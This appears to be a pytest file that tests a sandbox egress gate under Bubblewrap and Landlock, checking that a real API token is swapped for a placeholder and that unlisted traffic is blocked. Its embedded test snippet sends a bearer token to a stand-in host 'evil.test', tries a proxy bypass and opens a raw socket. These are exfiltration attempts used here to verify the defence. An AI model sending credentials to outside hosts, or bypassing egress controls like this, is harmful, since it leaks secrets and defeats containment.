"""The gate where it is used: behind the real backends, with their filters, limits and nested namespaces."""

from __future__ import annotations

import json
import os
import select
import subprocess
import time

import pytest

from callgate.sandbox.backend import Backend
from callgate.sandbox.bubblewrap import BubblewrapBackend
from callgate.sandbox.egress.gate import EgressGate
from callgate.sandbox.landlock import LandlockBackend
from callgate.sandbox.spec import Sentinel
from tests.support.egress import World, program, spec

TOKEN = Sentinel("TOKEN", "ghp_SENTINEL0000", b"ghp_the-real-token", ("api.test",))

CODE = """
import json, os, socket, urllib.request
token = os.environ["TOKEN"]
found = {}
def attempt(name, call):
    try:
        found[name] = call()
    except Exception as error:
        found[name] = "no: " + type(error).__name__
def get(url, *handlers):
    request = urllib.request.Request(url, headers={"Authorization": "Bearer " + token})
    return json.loads(urllib.request.build_opener(*handlers).open(request, timeout=60).read())["saw"]["headers"]["Authorization"]
attempt("proxy", lambda: get("https://api.test/"))
attempt("transparent", lambda: get("https://api.test/", urllib.request.ProxyHandler({})))
attempt("other", lambda: get("http://plain.test/"))
attempt("denied", lambda: get("http://evil.test/"))
attempt("without credentials", lambda: get("http://plain.test/", urllib.request.ProxyHandler(
    {"http": "http://127.0.0.1:" + os.environ["HTTP_PROXY"].rpartition(":")[2]})))
attempt("host", lambda: socket.create_connection(("127.0.0.1", %d), 3) and "reached")
print(json.dumps(found))
"""


@pytest.fixture(scope="module")
def world():
    one = World()
    one.add("api.test")
    one.add("plain.test", 80, tls=False)
    yield one
    one.close()


def confined(backend: Backend, world: World, monkeypatch: pytest.MonkeyPatch) -> tuple[dict, list[dict]]:
    """Run the code above behind `backend`, with the world's hosts in place of the internet's."""
    prepare = EgressGate.prepare
    monkeypatch.setattr(EgressGate, "prepare", lambda *given, **more: prepare(*given, **more, lab=world.lab()))
    wanted = spec([("api.test", 443), ("plain.test", 80)], [TOKEN], {"TOKEN": TOKEN.placeholder, "PATH": "/usr/bin"})
    code = CODE % world.hosts["plain.test", 80].port
    prepared = backend.prepare(wanted, [os.path.realpath("/usr/bin/python3"), "-I", "-c", code])
    process = subprocess.Popen(
        list(prepared.argv),
        env=dict(prepared.environment),
        cwd=prepared.cwd or None,
        pass_fds=prepared.pass_fds,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    running = prepared.started(process.pid)
    output, events, until = b"", [], time.monotonic() + 60
    try:
        while True:
            assert time.monotonic() < until, (output, events)
            ready = select.select([process.stdout, running.events_fd], [], [], 1.0)[0]
            if running.events_fd in ready:
                events += running.read_events()
            if process.stdout in ready:
                data = os.read(process.stdout.fileno(), 65536)
                if not data:
                    break
                output += data
    finally:
        process.wait(60)
        process.stdout.close()
        running.close()
    return json.loads(output.splitlines()[-1]), events


def test_bubblewrap(world, monkeypatch):
    program("bwrap")
    found, events = confined(BubblewrapBackend(), world, monkeypatch)
    stand_in = f"Bearer {TOKEN.placeholder}"
    assert found == {
        "proxy": stand_in,
        "transparent": stand_in,
        "other": stand_in,
        "denied": "no: HTTPError",
        "without credentials": stand_in,
        "host": "no: ConnectionRefusedError",
    }
    seen = world.hosts["api.test", 443].seen
    assert {one["headers"]["Authorization"] for one in seen} == {"Bearer ghp_the-real-token"}
    assert {one["headers"]["Authorization"] for one in world.hosts["plain.test", 80].seen} == {stand_in}
    assert "sentinel-misdirected" in {event["kind"] for event in events}


def test_landlock(world, monkeypatch):
    probe = LandlockBackend().probe()
    if not probe.usable:
        pytest.skip(probe.reason)
    found, _ = confined(LandlockBackend(), world, monkeypatch)
    stand_in = f"Bearer {TOKEN.placeholder}"
    assert found.pop("transparent").startswith("no: ")
    assert found == {
        "proxy": stand_in,
        "other": stand_in,
        "denied": "no: HTTPError",
        "without credentials": "no: HTTPError",
        "host": "no: PermissionError",
    }
